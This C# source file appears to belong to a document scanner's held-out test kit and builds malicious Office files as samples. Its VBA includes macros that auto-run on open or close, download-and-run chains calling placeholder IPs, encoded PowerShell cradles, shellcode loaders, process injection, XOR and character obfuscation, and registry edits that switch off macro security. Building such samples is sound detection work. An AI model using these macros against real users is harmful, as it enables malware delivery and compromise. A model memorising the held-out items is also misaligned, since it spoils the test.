using System.Text;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Sixth;

/// <summary>A macro that fetches a program and starts it when the document opens.</summary>
public sealed class MacroThatFetchesAProgram : SixthRound
{
    private const string Lure = "<w:p><w:r><w:t>This document is protected. To view it press Enable Editing, then Enable Content.</w:t></w:r></w:p>";

    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Invoice 88231.docm", OoxmlBuilder.Word(Lure).WithMacros(Project("ThisDocument", """"
            #If VBA7 Then
            Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" (ByVal pCaller As LongPtr, ByVal szURL As String, ByVal szFileName As String, ByVal dwReserved As Long, ByVal lpfnCB As LongPtr) As Long
            #Else
            Private Declare Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" (ByVal pCaller As Long, ByVal szURL As String, ByVal szFileName As String, ByVal dwReserved As Long, ByVal lpfnCB As Long) As Long
            #End If

            Sub AutoOpen()
                Dim target As String
                target = Environ("TEMP") & "\invoice.exe"
                URLDownloadToFile 0, "http://192.0.2.111/files/invoice.exe", target, 0, 0
                Shell target, vbHide
            End Sub
            """")).Build());

        yield return ("Gehaltsliste.xls", new VbaProjectBuilder().Module("DieseArbeitsmappe", """"
            Private Sub Workbook_Open()
                Dim http As Object, strom As Object, pfad As String
                Set http = CreateObject("MSXML2.ServerXMLHTTP.6.0")
                http.Open "GET", "http://198.51.100.121/daten/liste.dat", False
                http.setRequestHeader "User-Agent", "Mozilla/5.0"
                http.send
                If http.Status = 200 Then
                    pfad = Environ$("APPDATA") & "\Microsoft\liste.exe"
                    Set strom = CreateObject("ADODB.Stream")
                    strom.Open
                    strom.Type = 1
                    strom.Write http.responseBody
                    strom.SaveToFile pfad, 2
                    strom.Close
                    CreateObject("WScript.Shell").Run Chr(34) & pfad & Chr(34), 0, False
                End If
            End Sub
            """").AddTo(new OleFileBuilder().Stream("Workbook", Carriers.Workbook()), "_VBA_PROJECT_CUR").Build());

        yield return ("Summons.doc", new VbaProjectBuilder().Module("ThisDocument", Fill(""""
            Sub Document_Open()
                Dim cmd As String
                cmd = "powershell.exe -NoP -NonI -W Hidden -Enc @@1"
                Set wmi = GetObject("winmgmts:\\.\root\cimv2")
                Set cfg = wmi.Get("Win32_ProcessStartup").SpawnInstance_
                cfg.ShowWindow = 0
                wmi.Get("Win32_Process").Create cmd, Null, cfg, pid
            End Sub
            """", Encoded("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.131/s')"))).AddTo(new OleFileBuilder().Stream("WordDocument", [0xEC, 0xA5, 0xC1, 0, .. new byte[4092]]), "Macros").Build());

        // It acts when the document is closed, by way of a scheduled task that another program registers; words come from the document's properties.
        yield return ("Survey.docm", OoxmlBuilder.Word(Lure)
            .Part("_rels/.rels", "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/><Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties\" Target=\"docProps/core.xml\"/></Relationships>")
            .Part("docProps/core.xml", "<cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:subject>nigulps.tsjs//:ptth|ath.q/tset.nogulp</dc:subject><dc:description>athsm</dc:description></cp:coreProperties>")
            .WithMacros(Project("NewMacros", """"
            Sub AutoClose()
                Dim svc, t, a, p
                p = Split(ActiveDocument.BuiltInDocumentProperties("Subject"), "|")
                Set svc = CreateObject("Schedule.Service")
                svc.Connect
                Set t = svc.NewTask(0)
                Set a = t.Triggers.Create(7)
                Set a = t.Actions.Create(0)
                a.Path = StrReverse(ActiveDocument.BuiltInDocumentProperties("Comments"))
                a.Arguments = StrReverse(p(1)) & "?" & StrReverse(p(0))
                svc.GetFolder("\").RegisterTaskDefinition "OfficeSurvey", t, 6, , , 3
            End Sub
            """")).Build());
    }
}

/// <summary>A macro that puts native code into memory and has it called.</summary>
public sealed class MacroThatRunsNativeCode : SixthRound
{
    // Do-nothing instructions and a return, as long as a loader's first stage is.
    private static readonly byte[] Code = [.. Enumerable.Repeat((byte)0x90, 300), 0xC3];

    private static string Numbers(int perLine) => string.Join(", _\n", Code.Chunk(perLine).Select(line => string.Join(", ", line)));

    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("report.docm", OoxmlBuilder.Word("<w:p><w:r><w:t>Enable content to decrypt the report.</w:t></w:r></w:p>").WithMacros(Project("NewMacros", Fill("""
            #If VBA7 Then
            Private Declare PtrSafe Function CreateThread Lib "kernel32" (ByVal Zdu As Long, ByVal Tfnsv As Long, ByVal Kyfde As LongPtr, Spjyjr As Long, ByVal Pcxhytlle As Long, Coupxdxe As Long) As LongPtr
            Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" (ByVal Hflhigyw As Long, ByVal Zeruom As Long, ByVal Rlzbwy As Long, ByVal Dcdtyekv As Long) As LongPtr
            Private Declare PtrSafe Function RtlMoveMemory Lib "kernel32" (ByVal Dkhnszol As LongPtr, ByRef Wwgtgy As Any, ByVal Hrkmuos As Long) As LongPtr
            #Else
            Private Declare Function CreateThread Lib "kernel32" (ByVal Zdu As Long, ByVal Tfnsv As Long, ByVal Kyfde As Long, Spjyjr As Long, ByVal Pcxhytlle As Long, Coupxdxe As Long) As Long
            Private Declare Function VirtualAlloc Lib "kernel32" (ByVal Hflhigyw As Long, ByVal Zeruom As Long, ByVal Rlzbwy As Long, ByVal Dcdtyekv As Long) As Long
            Private Declare Function RtlMoveMemory Lib "kernel32" (ByVal Dkhnszol As Long, ByRef Wwgtgy As Any, ByVal Hrkmuos As Long) As Long
            #End If

            Sub Auto_Open()
                Dim Wyzayxya As Long, Hyeyhafxp As Variant, Lezhtplzi As Long, Zolde As Long
                #If VBA7 Then
                Dim Xlbufvetp As LongPtr
                #Else
                Dim Xlbufvetp As Long
                #End If
                Hyeyhafxp = Array(@@1)
                Xlbufvetp = VirtualAlloc(0, UBound(Hyeyhafxp), &H1000, &H40)
                For Zolde = LBound(Hyeyhafxp) To UBound(Hyeyhafxp)
                    Wyzayxya = Hyeyhafxp(Zolde)
                    Lezhtplzi = RtlMoveMemory(Xlbufvetp + Zolde, Wyzayxya, 1)
                Next Zolde
                Lezhtplzi = CreateThread(0, 0, Xlbufvetp, 0, 0, 0)
            End Sub
            Sub AutoOpen()
                Auto_Open
            End Sub
            """, Numbers(60)))).Build());

        yield return ("Budget.xlsm", OoxmlBuilder.Excel().WithMacros(Project("ThisWorkbook", Fill("""
            Private Declare PtrSafe Function HeapCreate Lib "kernel32" (ByVal o As Long, ByVal i As LongPtr, ByVal m As LongPtr) As LongPtr
            Private Declare PtrSafe Function HeapAlloc Lib "kernel32" (ByVal h As LongPtr, ByVal f As Long, ByVal b As LongPtr) As LongPtr
            Private Declare PtrSafe Sub CopyMemory Lib "kernel32" Alias "RtlMoveMemory" (ByVal d As LongPtr, s As Any, ByVal n As LongPtr)
            Private Declare PtrSafe Function EnumSystemLocalesA Lib "kernel32" (ByVal p As LongPtr, ByVal f As Long) As Long
            Private Sub Workbook_Open()
                Dim s As String, b() As Byte, i As Long, p As LongPtr
                s = "@@1"
                ReDim b(Len(s) / 2 - 1)
                For i = 0 To UBound(b)
                    b(i) = CByte("&H" & Mid(s, i * 2 + 1, 2))
                Next
                p = HeapAlloc(HeapCreate(&H40000, 0, 0), 8, UBound(b) + 1)
                CopyMemory p, b(0), UBound(b) + 1
                EnumSystemLocalesA p, 0
            End Sub
            """, Convert.ToHexString(Code)))).Build());

        yield return ("Angebot.doc", new VbaProjectBuilder().Module("ThisDocument", Fill("""
            Private Type STARTUPINFO
                cb As Long
                r(16) As Long
            End Type
            Private Type PROCESS_INFORMATION
                hProcess As Long
                hThread As Long
                p As Long
                t As Long
            End Type
            Private Declare Function CreateProcessA Lib "kernel32" (ByVal a As String, ByVal c As String, ByVal x As Long, ByVal y As Long, ByVal h As Long, ByVal f As Long, ByVal e As Long, ByVal d As String, s As STARTUPINFO, p As PROCESS_INFORMATION) As Long
            Private Declare Function VirtualAllocEx Lib "kernel32" (ByVal h As Long, ByVal a As Long, ByVal n As Long, ByVal t As Long, ByVal p As Long) As Long
            Private Declare Function WriteProcessMemory Lib "kernel32" (ByVal h As Long, ByVal a As Long, ByRef b As Any, ByVal n As Long, ByVal w As Long) As Long
            Private Declare Function CreateRemoteThread Lib "kernel32" (ByVal h As Long, ByVal a As Long, ByVal n As Long, ByVal s As Long, ByVal p As Long, ByVal f As Long, t As Long) As Long
            Sub Document_Open()
                Dim s As STARTUPINFO, p As PROCESS_INFORMATION, a, m As Long, i As Long, b As Long, t As Long
                s.cb = LenB(s)
                CreateProcessA vbNullString, Environ("windir") & "\SysWOW64\rundll32.exe", 0, 0, 1, 4, 0, vbNullString, s, p
                a = Array(@@1)
                m = VirtualAllocEx(p.hProcess, 0, UBound(a) + 1, &H3000, &H40)
                For i = 0 To UBound(a)
                    b = a(i)
                    WriteProcessMemory p.hProcess, m + i, b, 1, 0
                Next
                CreateRemoteThread p.hProcess, 0, 0, m, 0, 0, t
            End Sub
            """, Numbers(80))).AddTo(new OleFileBuilder().Stream("WordDocument", [0xEC, 0xA5, 0xC1, 0, .. new byte[4092]]), "Macros").Build());

        // Functions go by innocent names and partly by number; the code is words from a table of letters; it waits for a change of the sheet.
        yield return ("Forecast.xlsm", OoxmlBuilder.Excel().WithMacros(Project("Sheet1", Fill("""
            Private Declare PtrSafe Function FontTable Lib "ntdll" Alias "NtAllocateVirtualMemory" (ByVal h As LongPtr, b As LongPtr, ByVal z As LongPtr, s As LongPtr, ByVal t As Long, ByVal p As Long) As Long
            Private Declare PtrSafe Function FontFill Lib "ntdll" Alias "NtWriteVirtualMemory" (ByVal h As LongPtr, ByVal b As LongPtr, ByRef s As Any, ByVal n As LongPtr, ByVal w As LongPtr) As Long
            Private Declare PtrSafe Function FontShow Lib "user32" Alias "GrayStringA" (ByVal d As LongPtr, ByVal b As LongPtr, ByVal p As LongPtr, ByVal l As LongPtr, ByVal n As Long, ByVal x As Long, ByVal y As Long, ByVal w As Long, ByVal h As Long) As Long
            Private Sub Worksheet_Change(ByVal Target As Range)
                Dim glyphs As String, k As Long, g() As Byte, base As LongPtr, size As LongPtr
                glyphs = "@@1"
                ReDim g(Len(glyphs) \ 2 - 1)
                For k = 0 To UBound(g)
                    g(k) = (Asc(Mid$(glyphs, 2 * k + 1, 1)) - 65) * 16 + Asc(Mid$(glyphs, 2 * k + 2, 1)) - 65
                Next
                size = 4096
                FontTable -1, base, 0, size, &H3000, 64
                FontFill -1, base, g(0), UBound(g) + 1, 0
                FontShow GetDC0(), 0, base, 1, 1, 0, 0, 0, 0
            End Sub
            Private Function GetDC0() As LongPtr
                GetDC0 = Application.Hwnd
            End Function
            """, string.Concat(Code.Select(value => $"{(char)('A' + (value >> 4))}{(char)('A' + (value & 15))}"))))).Build());
    }
}

/// <summary>A macro that tells what it does only after a computation.</summary>
public sealed class MacroInCipher : SixthRound
{
    private const string Command = "powershell -w hidden -nop -c iex(New-Object Net.WebClient).DownloadString('http://192.0.2.140/c')";

    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Statement.docm", OoxmlBuilder.Word().WithMacros(Project("ThisDocument", Fill("""
            Sub AutoOpen()
                Dim qwz As String
            @@1
                CreateObject(Chr(87) & Chr(83) & Chr(99) & Chr(114) & Chr(105) & Chr(112) & Chr(116) & Chr(46) & Chr(83) & Chr(104) & Chr(101) & Chr(108) & Chr(108)).Run qwz, 0
            End Sub
            """, string.Join('\n', Command.Chunk(12).Select(part => "    qwz = qwz & " + string.Join(" & ", part.Select(letter => $"Chr({(int)letter})"))))))).Build());

        yield return ("Quote.xlsm", OoxmlBuilder.Excel().WithMacros(new VbaProjectBuilder().Module("ThisWorkbook", """
            Private Sub Workbook_Open()
                Call Start
            End Sub
            """).Module("Module1", Fill("""
            Function Pears(Beets)
                Pears = Chr(Beets - 17)
            End Function
            Function Strawberries(Grapes)
                Strawberries = Left(Grapes, 3)
            End Function
            Function Almonds(Jelly)
                Almonds = Right(Jelly, Len(Jelly) - 3)
            End Function
            Function Nuts(Milk)
                Do
                    Oatmilk = Oatmilk + Pears(Strawberries(Milk))
                    Milk = Almonds(Milk)
                Loop While Len(Milk) > 0
                Nuts = Oatmilk
            End Function
            Function Start()
                Dim Apples As String, Water As String
                Apples = "@@1"
                Water = Nuts(Apples)
                GetObject(Nuts("@@2")).Get(Nuts("@@3")).Create Water, Tea, Coffee, Napkin
            End Function
            """, Shifted(Command), Shifted("winmgmts:"), Shifted("Win32_Process"))).Build()).Build());

        yield return ("Zahlungsplan.doc", new VbaProjectBuilder().Module("ThisDocument", Fill("""
            Const schluessel = "herbst"
            Function klar(h As String) As String
                Dim i As Long
                For i = 1 To Len(h) Step 2
                    klar = klar & Chr(Val("&H" & Mid(h, i, 2)) Xor Asc(Mid(schluessel, ((i \ 2) Mod Len(schluessel)) + 1, 1)))
                Next
            End Function
            Sub Document_Open()
                On Error Resume Next
                Dim o As Object
                Set o = CreateObject(klar("@@1"))
                o.Run klar("@@2"), 0, False
            End Sub
            """, Keyed("WScript.Shell"), Keyed(Command))).AddTo(new OleFileBuilder().Stream("WordDocument", [0xEC, 0xA5, 0xC1, 0, .. new byte[4092]]), "Macros").Build());

        // The words stand in cells of a hidden sheet, one letter in five of it counts, and the object is made by its class.
        yield return ("Planner.xlsm", OoxmlBuilder.Excel(sheetState: "veryHidden")
            .Part("xl/worksheets/sheet1.xml", $"<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>{string.Concat(Command.Select((letter, at) => $"{"qkzjx"[at % 5]}{"wvhtr"[at % 5]}{"pmgys"[at % 5]}{"bdnce"[at % 5]}{letter}"))}</t></is></c></row></sheetData></worksheet>")
            .Relationship("xl/_rels/workbook.xml.rels", "worksheet", "worksheets/sheet1.xml", isExternal: false)
            .WithMacros(Project("ThisWorkbook", """
            Private Sub Workbook_BeforeClose(Cancel As Boolean)
                Dim t As String, u As String, i As Integer
                t = ThisWorkbook.Sheets(1).Range("A1").Value
                For i = 5 To Len(t) Step 5
                    u = u & Mid(t, i, 1)
                Next
                Dim w As Object
                Set w = GetObject("new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}")
                CallByName w, Replace("R#u#n", "#", ""), 1, u, 0
            End Sub
            """)).Build());
    }

    private static string Shifted(string text) => string.Concat(text.Select(letter => (letter + 17).ToString("D3", System.Globalization.CultureInfo.InvariantCulture)));

    private static string Keyed(string text) => Convert.ToHexString([.. Encoding.ASCII.GetBytes(text).Select((value, at) => (byte)(value ^ "herbst"[at % 6]))]);
}

/// <summary>A macro that is out of sight: its source is gone, its data lies in a form, it lives where no macro should be, or it takes the guard away.</summary>
public sealed class MacroOutOfSight : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Agenda.doc", new VbaProjectBuilder()
            .Module("ThisDocument", "Sub Document_Open()\n    MsgBox \"Hello\"\nEnd Sub", VbaProjectBuilder.CompiledLiterals("WScript.Shell", "cmd /c powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.166/a')\"", "Run"))
            .AddTo(new OleFileBuilder().Stream("WordDocument", [0xEC, 0xA5, 0xC1, 0, .. new byte[4092]]), "Macros").Build());

        yield return ("Tarif.xls", new VbaProjectBuilder().Module("DieseArbeitsmappe", """"
            Private Sub Workbook_Open()
                Dim r
                Set r = CreateObject("WScript.Shell")
                r.RegWrite "HKCU\Software\Microsoft\Office\16.0\Excel\Security\AccessVBOM", 1, "REG_DWORD"
                r.RegWrite "HKCU\Software\Microsoft\Office\16.0\Excel\Security\VBAWarnings", 1, "REG_DWORD"
                r.RegWrite "HKCU\Software\Microsoft\Office\16.0\Excel\Security\ProtectedView\DisableInternetFilesInPV", 1, "REG_DWORD"
                Dim x, m
                Set x = CreateObject("Excel.Application")
                Set m = x.Workbooks.Add.VBProject.VBComponents.Add(1)
                m.CodeModule.AddFromString "Sub Go()" & vbLf & "Shell ""mshta http://192.0.2.167/t.hta"", 0" & vbLf & "End Sub"
                x.Run "Go"
            End Sub
            """").AddTo(new OleFileBuilder().Stream("Workbook", Carriers.Workbook()), "_VBA_PROJECT_CUR").Build());

        yield return ("Order confirmation.docx", OoxmlBuilder.Word("<w:p><w:r><w:t>Order confirmation. Please rename to .docm if the content is not shown.</w:t></w:r></w:p>")
            .Part("word/vbaProject.bin", Project("ThisDocument", """"
            Sub Document_Open()
                Dim f As String
                f = Environ("USERPROFILE") & "\AppData\Roaming\Microsoft\Word\STARTUP\addin.wll"
                With CreateObject("WinHttp.WinHttpRequest.5.1")
                    .Open "GET", "https://updates.office-cdn.test/addin.wll", False
                    .Send
                    Open f For Binary As #1
                    Dim b() As Byte
                    b = .ResponseBody
                    Put #1, , b
                    Close #1
                End With
            End Sub
            """")).Relationship("word/_rels/document.xml.rels", "vbaProject", "vbaProject.bin", isExternal: false).Build());

        // The payload lies in a form's caption as base64, is decoded by an XML element, written as a script and started by its file type.
        yield return ("Timesheet.doc", new VbaProjectBuilder().Module("ThisDocument", """"
            Private Sub Document_ContentControlOnEnter(ByVal c As ContentControl)
                Dim e, p
                Set e = CreateObject("MSXML2.DOMDocument").createElement("a")
                e.DataType = "bin.base64"
                e.Text = UserForm1.Label1.Caption
                p = Options.DefaultFilePath(wdUserTemplatesPath) & "\t.js"
                Open p For Binary As #4
                Dim b() As Byte: b = e.nodeTypedValue
                Put #4, , b
                Close #4
                CreateObject("Shell.Application").Namespace(0).ParseName(p).InvokeVerb
            End Sub
            """").AddTo(new OleFileBuilder().Stream("WordDocument", [0xEC, 0xA5, 0xC1, 0, .. new byte[4092]])
                .Stream("Macros/UserForm1/o", [0, 2, 0x28, 0, .. Utf8(Base64("var x=new ActiveXObject('MSXML2.XMLHTTP');x.open('GET','http://198.51.100.168/t',0);x.send();new Function(x.responseText)();")), 0, 0])
                .Stream("Macros/UserForm1/f", [0, 4, 0x24, 0, .. new byte[60]]), "Macros").Build());
    }
}
